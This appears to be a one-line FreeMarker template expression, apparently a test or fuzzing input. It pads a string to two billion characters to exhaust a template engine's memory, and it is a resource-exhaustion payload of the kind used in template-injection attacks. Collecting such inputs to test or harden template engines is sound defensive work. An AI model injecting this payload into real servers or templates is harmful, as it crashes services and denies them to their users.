${("a"?left_pad(2000000000))?length}
